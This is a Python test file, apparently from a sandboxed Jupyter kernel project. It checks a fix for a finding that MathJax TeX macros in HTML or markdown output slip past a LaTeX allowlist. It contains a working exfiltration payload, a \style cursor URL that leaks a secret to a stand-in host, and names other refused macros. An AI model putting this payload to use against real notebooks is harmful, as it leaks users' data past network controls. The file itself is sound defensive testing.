"""Outside review (4th): TeX in sandbox ``text/html`` and markdown skips the ``text/latex`` macro allowlist.

Attack (bypass of the active-content fix): ``text/latex`` is kept only when
every macro is a plain math macro (``active_content.LATEX_MACROS``), because
MathJax also knows ``\\style``, ``\\href``, ``\\class``, ``\\cssId``. But
JupyterLab typesets ``text/html`` and ``text/markdown`` outputs with the same
MathJax (``RenderedHTML`` / ``RenderedMarkdown`` pass ``latexTypesetter``),
and ``clean_html`` leaves TeX text alone. So the sandbox displays
``HTML(r"$\\style{cursor:url(http://127.0.0.1:9/leak?d=SECRET),auto}{x}$")``
(or the same as markdown, which the kernel renders with mistune's math plugin
into a ``<span class="math">`` it keeps). JupyterLab's MathJax ``safe``
extension allows the ``cursor`` style with an ``http:`` URL (its
``safeStyles`` list; only ``javascript:`` and ``data:`` are refused), so
hovering over the formula makes the browser fetch a URL the sandbox chose,
past its network policy. ``\\href{http://...}`` and ``\\class{jp-...}`` pass too.

Judged from the host, at the protocol level (a real glsandbox kernel over
ZMQ): the ``text/html`` relayed to the frontend holds no TeX macro that the
``text/latex`` allowlist refuses.

Fix (suggested): ``active_content.py`` (``clean_bundle``): apply
``latex_refusal`` to the text of ``text/html`` and rendered markdown too (drop
or escape math with a refused macro, e.g. by escaping ``\\`` before ``style``,
``href``, ``class``, ``cssId``, ``unicode``, ``require``).
"""

from __future__ import annotations

import pytest

from glsandbox_kernel.active_content import latex_refusal

from ..jupyter_fixtures import Kernel, glsandbox_kernelspec, kernel_made
from .test_outside_active_outputs import kernel

__all__ = ["glsandbox_kernelspec", "kernel"]  # the fixtures, imported for pytest

pytestmark = pytest.mark.timeout(180)

TEX = r"$\style{cursor:url(http://127.0.0.1:9/leak?d=SECRET),auto}{x}$"
CASES = {
    "html": f"from IPython.display import display, HTML\ndisplay(HTML({TEX!r}))",
    "markdown": f"from IPython.display import display, Markdown\ndisplay(Markdown({TEX!r}))",
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_sandbox_html_math_has_only_allowed_tex_macros(kernel: Kernel, name: str) -> None:
    reply, outputs = kernel.execute(CASES[name], timeout=60)
    assert reply["status"] == "ok", reply
    shown = [
        m["content"]["data"]
        for m in outputs
        if m["msg_type"] == "display_data" and not kernel_made(m) and "text/html" in m["content"]["data"]
    ]
    assert shown, f"{name}: no text/html output was relayed ({[m['msg_type'] for m in outputs]})"
    refused = [(latex_refusal(d["text/html"]), d["text/html"]) for d in shown]
    assert all(macro is None for macro, _ in refused), f"{name}: MathJax would typeset {refused}"
